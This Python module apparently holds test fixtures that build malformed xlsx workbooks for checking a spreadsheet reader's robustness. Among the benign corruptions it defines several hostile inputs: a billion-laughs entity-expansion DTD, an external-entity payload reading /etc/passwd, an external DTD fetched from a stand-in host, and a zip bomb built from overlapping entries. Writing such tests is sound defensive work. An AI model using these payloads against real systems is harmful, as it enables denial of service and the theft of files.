"""Ways to spoil a workbook: each takes the parts of a sound one and gives the bytes of a bad one."""

import io
import random
import re
import warnings
import zipfile
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from itertools import count

from openpyxl.xml.constants import SHARED_STRINGS

from packages import unpacked
from samples import REFERENCE

BOOK, RELATIONS, STYLES = "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml"
COVER, TEXT, TABLE = "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml", "xl/worksheets/sheet5.xml"
STRINGS, TYPES, ROOT = "xl/sharedStrings.xml", "[Content_Types].xml", "_rels/.rels"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CELL, FIGURE = "D7", "三_本年新收_自然人"
"""A cell of the table, and the name of its figure."""
DATE = 9
"""The number of a style that shows a date."""

Make = Callable[[], bytes]


@cache
def sound() -> Mapping[str, bytes]:
    return unpacked(REFERENCE.read_bytes())


def packed(parts: Mapping[str, bytes], more: Mapping[str, bytes] = {}) -> bytes:
    """A package; compressed as Excel does, or a bomb would be large."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package, warnings.catch_warnings(action="ignore"):
        for name, content in (*parts.items(), *more.items()):
            package.writestr(name, content)
    return buffer.getvalue()


def adding(name: str, content: bytes) -> Make:
    """Another part; of a name that is there already, a second one."""
    return lambda: packed(sound(), {name: content}) if name not in sound() else _doubled(name, content)


def _doubled(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO(packed(sound()))
    with zipfile.ZipFile(buffer, "a") as package, warnings.catch_warnings(action="ignore"):
        package.writestr(name, content)
    return buffer.getvalue()


def part(name: str, content: bytes | None) -> Make:
    """A part's content replaced; None: without it."""
    changed = {each: old if each != name else content for each, old in sound().items()}
    return lambda: packed({each: new for each, new in changed.items() if new is not None})


def edit(name: str, old: str, new: str | Callable[[], str]) -> Make:
    """The first occurrence of some text in a part replaced; it must be there."""

    def make() -> bytes:
        text = sound()[name].decode()
        assert old in text, f"{name} holds no {old}"
        return packed({**sound(), name: text.replace(old, new if isinstance(new, str) else new(), 1).encode()})

    return make


def coded(name: str, encoding: str, *, said: str = "") -> Make:
    """A part in another encoding; ``said``: what its declaration says."""
    text = sound()[name].decode()
    text = text[text.index("?>") + 2 :] if text.startswith("<?xml") else text
    return lambda: packed({**sound(), name: ((f'<?xml version="1.0" encoding="{said}"?>' if said else "") + text).encode(encoding)})


def cell(xml: str) -> Make:
    """The cell of a figure replaced."""

    def make() -> bytes:
        text = sound()[TABLE].decode()
        start = text.index(f'<c r="{CELL}"')
        end = min(at for at in (text.find("</c>", start) + 4, text.find("/>", start) + 2) if at > start)
        return packed({**sound(), TABLE: (text[:start] + xml + text[end:]).encode()})

    return make


def value(stored: str, kind: str = "n", style: int = 0) -> Make:
    return cell(f'<c r="{CELL}" s="{style}" t="{kind}"><v>{stored}</v></c>')


def typed(text: str) -> Make:
    """A figure typed as text."""
    return cell(f'<c r="{CELL}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>')


def shared(xml: str, stored: str = "0") -> Make:
    """With a table of shared texts, one of which the figure is."""
    relation = f'<Relationship Id="texts" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    overridden = f'<Override PartName="/{STRINGS}" ContentType="{SHARED_STRINGS}"/></Types>'

    def make() -> bytes:
        parts = unpacked(value(stored, "s")())
        parts[RELATIONS] = parts[RELATIONS].replace(b"</Relationships>", relation.encode())
        parts[TYPES] = parts[TYPES].replace(b"</Types>", overridden.encode())
        return packed(parts, {STRINGS: xml.encode()})

    return make


def texts(items: str) -> str:
    return f'<sst xmlns="{MAIN}">{items}</sst>'


def declared(name: str, declaration: str, *, spoken: str = "") -> Make:
    """A DTD in a part, and where ``spoken`` is given an entity of it in place of that text."""

    def make() -> bytes:
        text = sound()[name].decode()
        text = text[text.index("?>") + 2 :] if text.startswith("<?xml") else text
        assert spoken in text
        return packed({**sound(), name: (declaration + (text.replace(spoken, "&a;", 1) if spoken else text)).encode()})

    return make


LAUGHS = (
    "<!DOCTYPE a ["
    + '<!ENTITY z "haha">'
    + "".join(f'<!ENTITY {name} "{f"&{inner};" * 10}">' for name, inner in zip("yxwvutsrqa", "zyxwvutsrq", strict=True))
    + "]>"
)
OUTSIDE = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
ELSEWHERE = '<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd" [<!ENTITY % b SYSTEM "http://192.0.2.1/b"> %b; ]>'


def many(piece: Callable[[int], str], size: int) -> Callable[[], str]:
    """Pieces of XML up to a size."""

    def make() -> str:
        return "".join(_until(map(piece, count(200)), size))

    return make


def _until(pieces: Iterator[str], size: int) -> Iterator[str]:
    while size > 0:
        size -= len(piece := next(pieces))
        yield piece


def before(end: str, make: Callable[[], str]) -> Callable[[], str]:
    return lambda: make() + end


def overlapping(copies: int) -> bytes:
    """A zip bomb whose entries are all the same bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(BOOK, bytes(4_000_000))
        first = package.infolist()[0]
        for number in range(copies):
            again = zipfile.ZipInfo(f"a{number}")
            for field in ("header_offset", "CRC", "compress_size", "file_size", "compress_type"):
                setattr(again, field, getattr(first, field))
            package.filelist.append(again)
            package.NameToInfo[again.filename] = again
    return buffer.getvalue()


def lying(size: int) -> Make:
    """A part that says it is smaller, or larger, than it is."""

    def make() -> bytes:
        content = bytearray(packed(sound()))
        at = content.rindex(TABLE.encode()) - 46
        content[at + 24 : at + 28] = size.to_bytes(4, "little")
        return bytes(content)

    return make


def crc() -> bytes:
    content = bytearray(packed(sound()))
    at = content.rindex(TABLE.encode()) - 46
    content[at + 16] ^= 1
    return bytes(content)


def cut(share: float) -> Make:
    return lambda: (whole := packed(sound()))[: int(len(whole) * share)]


def noise() -> bytes:
    return random.Random(1).randbytes(30_000)


def zipped(**parts: bytes) -> Make:
    return lambda: packed({name.replace("__", "/").replace("_DOT_", "."): content for name, content in parts.items()})


def prefixed(xml: bytes) -> bytes:
    """The same XML with a prefix on every element."""
    return re.sub(rb"<(/?)([A-Za-z])", rb"<\1x:\2", xml).replace(b"xmlns=", b"xmlns:x=")


def reordered(xml: bytes) -> bytes:
    """The same sheet with its last row first."""
    start, end = xml.index(b"<sheetData>") + 11, xml.index(b"</sheetData>")
    rows = xml[start:end].split(b"</row>")[:-1]
    return xml[:start] + b"".join(row + b"</row>" for row in reversed(rows)) + xml[end:]
